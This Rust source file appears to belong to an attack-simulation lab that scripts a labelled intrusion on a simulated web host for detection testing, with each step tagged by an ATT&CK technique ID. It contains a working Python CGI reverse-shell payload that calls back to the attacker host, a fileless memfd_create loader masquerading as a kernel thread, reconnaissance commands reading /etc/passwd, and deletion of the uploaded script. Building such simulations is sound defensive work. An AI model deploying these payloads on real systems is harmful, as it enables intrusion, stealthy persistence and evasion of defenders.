//! A script is uploaded where scripts are run, calls back, and loads a program into memory that is on no disk.
//!
//! Hard because: visitors upload all the time, and what is uploaded is made executable by the site itself; the program in memory
//! has the name of a thread of the kernel.

use crate::Lab;
use crate::life::{host_tasks, web};
use crate::network::{get, post};
use crate::shell::Listener;
use anyhow::{Result, ensure};

pub fn run(lab: &mut Lab) -> Result<()> {
    let host = lab.host("web-2")?;
    let (internet, attacker) = (lab.outsider("visitors")?, lab.outsider("attacker")?);
    web::serve(&host)?;
    host_tasks::start(lab, &host)?;
    web::visit(lab, &internet, &host)?;
    lab.wait(15..25);

    let attack = lab.attack("file upload to reverse shell to a program in memory")?;
    let (name, port) = (lab.word(7), *lab.pick(&[443, 8443, 53]));
    let file = format!("/var/www/html/uploads/{name}.cgi");
    let step = attack.step("a script is uploaded", &["T1190", "T1105"]);
    step.remote(&host, &attacker);
    step.brought(&host, &file);
    let next = attack.step("it is called, and calls back", &["T1505.003", "T1059.006", "T1071.001"]);
    let script = format!(
        "#!/usr/bin/python3\nimport os,socket\nopen('{}')\nprint('Content-type: text/plain\\n',flush=True)\nif os.fork()==0:\n os.setsid()\n \
         s=socket.create_connection(('{}',{port}))\n for n in range(3): os.dup2(s.fileno(),n)\n os.execv('/bin/sh',['sh','-i'])\n",
        next.mark_file(&host)?,
        attacker.address
    );
    let said = post(&attacker, host.address, 80, &format!("/cgi-bin/upload.cgi?{name}.cgi"), script.as_bytes())?;
    ensure!(said.contains("Thank you"), "the upload did not work: {said}");
    drop(step);
    lab.wait(2..6);

    next.begin();
    next.remote(&host, &attacker);
    let listener = Listener::new(&attacker, port)?;
    get(&attacker, host.address, 80, &format!("/uploads/{name}.cgi"))?;
    let mut shell = listener.accept()?;
    shell.say("id; uname -r")?;
    drop(next);
    lab.wait(2..5);

    let step = attack.step("a look around", &["T1082", "T1057", "T1049"]);
    shell.begin(&step, &host)?;
    let look = *lab.pick(&["ps ax; ss -tn", "cat /proc/version; ss -tln", "ps ax; cat /etc/passwd"]);
    shell.say(look)?;
    drop(step);
    lab.wait(2..5);

    let step = attack.step("a program runs from memory", &["T1620", "T1036.004"]);
    shell.begin(&step, &host)?;
    let worker = lab.pick(&["kworker/0:1", "ksoftirqd/1", "kauditd"]);
    let load = format!(
        "import os;f=os.memfd_create('');os.write(f,open('/bin/dash','rb').read());\
         os.execv('/proc/self/fd/%d'%f,['[{worker}]','-c','id; cat /etc/passwd | wc -l'])"
    );
    let said = shell.say(&format!("python3 -c \"{load}\""))?;
    ensure!(said.contains("uid=33"), "nothing ran from memory: {said}");
    drop(step);
    lab.wait(2..4);

    let step = attack.step("the script is removed", &["T1070.004"]);
    shell.begin(&step, &host)?;
    shell.say(&format!("rm {file}"))?;
    shell.leave()?;
    drop(step);
    lab.wait(10..16);
    Ok(())
}
